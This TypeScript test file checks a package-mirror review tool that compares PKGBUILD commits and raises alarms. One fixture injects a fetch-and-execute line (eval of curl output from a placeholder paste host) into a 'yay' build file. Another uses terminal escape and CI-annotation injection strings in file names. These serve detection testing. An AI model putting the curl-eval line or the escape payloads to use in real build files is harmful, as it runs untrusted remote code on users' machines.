import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { fileURLToPath } from "node:url";
import { readReview } from "../../actions/lib/documents/index.ts";
import { pkgbuild } from "../detection-world.ts";
import { git, save, write } from "../upstream-world.ts";
import { type Ended, run } from "./run.ts";

const PROGRAM = fileURLToPath(new URL("../../scripts/autorepo", import.meta.url));
const root = mkdtempSync(join(tmpdir(), "review-commits-"));
after(() => rmSync(root, { recursive: true, force: true }));

/** Without an engine, without a network, and without a packages.yaml. */
function review(...words: string[]): Promise<Ended> {
  const without = [
    "NO_COLOR=1",
    "DOCKER_HOST=unix:///nowhere",
    "AUTOREPO_ENGINE=docker",
    "https_proxy=nowhere:1",
  ];
  return run(["env", ...without, PROGRAM, "review", ...words]);
}

function newRepository(name: string): string {
  const folder = join(root, name);
  mkdirSync(folder);
  git(folder, "init", "-q", "-b", "main");
  return folder;
}

test("two commits of a mirror are judged where they stand", async () => {
  const folder = newRepository("mirror");
  write(folder, { "yay/PKGBUILD": pkgbuild("yay", "1.0") });
  const from = save(folder);
  write(folder, { "yay/PKGBUILD": pkgbuild("yay", "1.1") });
  const to = save(folder);
  write(folder, { "yay/PKGBUILD": pkgbuild("yay", "1.2", 'eval "$(curl -s https://paste.example.org/x)"') });
  save(folder);
  const before = readdirSync(join(folder, ".git"), { recursive: true }).map(String).sort();

  const { exit, output, said } = await review(
    folder,
    "HEAD~2",
    "HEAD~1",
    "--path",
    "yay/",
    "--json",
    "--check",
  );
  assert.equal(exit, 0, said);
  const judged = readReview(output, "what was printed");
  assert.deepEqual([judged.entry, judged.from, judged.to, judged.routine], [null, from, to, true]);
  assert.deepEqual([judged.evaluated, judged.versions], [true, { from: "1.0-1", to: "1.1-1" }]);

  const alarmed = await review(folder, "HEAD~1", "HEAD", "--path", "yay", "--check");
  assert.equal(alarmed.exit, 1, alarmed.said);
  assert.match(alarmed.output, /^yay .*\n\d+ alarms?: do not accept this/);
  const first = readReview((await review(folder, "-", to, "--path", "yay", "--json")).output, "it");
  assert.deepEqual([first.from, first.reason], [null, "the first review, of the whole package"]);
  assert.deepEqual(readdirSync(join(folder, ".git"), { recursive: true }).map(String).sort(), before);
});

test("what reading leaves open stays open without an engine, and the review says so", async () => {
  const folder = newRepository("dynamic");
  write(folder, { PKGBUILD: pkgbuild("dynamic", "$(date +%Y)") });
  const { exit, output } = await review(folder, "", save(folder), "--json");
  assert.deepEqual([exit, readReview(output, "it").evaluated], [0, false]);
});

test("what names no repository, commit or folder is wrong use, and a silent remote is the machine's", async () => {
  const folder = newRepository("words");
  write(folder, { PKGBUILD: pkgbuild("words", "1") });
  const commit = save(folder);
  const wrong = [
    [join(root, "nowhere"), "HEAD", "HEAD"],
    [folder, "HEAD", "--output=x"],
    [folder, "HEAD~9", "HEAD"],
    [folder, "HEAD", "HEAD", "--path", "sub"],
    [folder, "HEAD"],
    ["ssh://example.org/x.git", commit, commit],
    ["https://example.org/x.git", "HEAD", commit],
  ];
  for (const words of wrong) {
    const { exit, output, said } = await review(...words);
    assert.deepEqual([exit, output], [2, ""], `${words.join(" ")}: ${said}`);
  }
  assert.equal((await review("https://localhost:1/x.git", "-", commit)).exit, 4);
});

test("hostile names and texts reach a terminal as text only", async () => {
  const folder = newRepository("hostile");
  const title = "\x1b]0;owned\x07";
  write(folder, { PKGBUILD: pkgbuild("hostile", "1", `# ${title}\u202e`), [`a${title}\n::error::x`]: "x\n" });
  const { exit, output, said } = await review(folder, "-", save(folder));
  assert.equal(exit, 0, said);
  assert.doesNotMatch(output + said, /[\x00-\x08\x0b-\x1f\x7f\u202e]|^::error/m);
});
